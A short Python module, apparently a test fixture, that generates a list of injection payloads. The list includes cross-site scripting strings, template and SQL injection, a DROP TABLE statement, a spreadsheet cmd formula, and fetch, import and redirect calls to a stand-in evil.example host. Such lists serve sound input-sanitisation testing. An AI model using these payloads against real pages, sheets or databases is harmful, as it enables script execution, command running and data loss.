"""Words that would run in a page, a sheet or a database which took them for anything but words."""

from itertools import product

BODIES = (
    "alert({n})", "fetch('//evil.example/{n}')", "document.title='{n}'", "top['al'+'ert']({n})",
    "`${{{n}}}`", "eval(atob('YWxlcnQoMSk={n}'))", "location='//evil.example/{n}'",
    "import('//evil.example/{n}')",
)  # fmt: skip
SHELLS = (
    "<script>{}</script>", '"><script>{}</script>', "'><img src=x onerror={}>", "<svg onload={}>",
    "</textarea><script>{}</script>", "</title><svg/onload={}>", "<img src=x onerror='{}'>",
    "javascript:{}", "<iframe srcdoc='<script>{}</script>'>", "<a href='javascript:{}'>x</a>",
    "<math><mi//xlink:href='data:x,<script>{}</script>'>", "{{{{{}}}}}", "{{% {} %}}", "${{{}}}",
    "<details open ontoggle={}>", "<body onpageshow={}>", "<style>@import'//e/{}'</style>",
    "<!--><script>{}</script>-->", "<form><button formaction=javascript:{}>x</button></form>",
    "<scr\u200bipt>{}</scr\u200bipt>", "\u2028<script>{}</script>", "=cmd|'/C {}'!A0",
    "<x onclick={}>x</x>", "<template><script>{}</script></template>",
    "%3Cscript%3E{}%3C/script%3E",
    "'; DROP TABLE lotline.complaint; --{}", "' OR '1'='1' /*{}*/",
)  # fmt: skip
WORDS = [
    shell.format(body.format(n=n))
    for n, (shell, body) in enumerate(product(SHELLS, BODIES))
]  # fmt: skip
